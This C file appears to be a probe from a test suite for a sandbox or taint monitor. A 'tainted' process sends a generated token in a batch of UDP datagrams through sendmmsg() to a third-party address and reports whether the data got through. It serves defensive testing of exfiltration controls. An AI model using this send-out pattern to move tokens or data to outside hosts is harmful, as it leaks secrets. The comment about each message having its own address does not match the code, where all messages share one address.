/* sendmmsg.c - attack: a tainted process sends a batch of UDP datagrams to a third party in one sendmmsg() call. */
#include "attack.h"

#define ROUTE "sendmmsg"

int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	struct mmsghdr mm[4];
	struct iovec iov;
	socklen_t len;
	char tok[128];
	int fd, sent;

	if (argc != 3) {
		fprintf(stderr, "usage: " ROUTE " CAMERA A.B.C.D:PORT\n");
		return 2;
	}
	at_taint(ROUTE, argv[1]);
	at_need_inet(ROUTE, argv[2], &ss, &len);
	iov.iov_base = tok;
	iov.iov_len = at_token(tok, sizeof(tok), ROUTE);
	/* Several messages, each with its own address: a batch must not be judged only by its first. */
	memset(mm, 0, sizeof(mm));
	for (size_t i = 0; i < sizeof(mm) / sizeof(mm[0]); i++) {
		mm[i].msg_hdr.msg_name = &ss;
		mm[i].msg_hdr.msg_namelen = len;
		mm[i].msg_hdr.msg_iov = &iov;
		mm[i].msg_hdr.msg_iovlen = 1;
	}
	fd = socket(ss.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return at_report_errno(ROUTE, "socket", errno);
	sent = sendmmsg(fd, mm, sizeof(mm) / sizeof(mm[0]), 0);
	if (sent < 0)
		return at_report_errno(ROUTE, "sendmmsg", errno);
	at_result(ROUTE, "through", "sendmmsg: %d of %zu messages", sent, sizeof(mm) / sizeof(mm[0]));
	return 0;
}
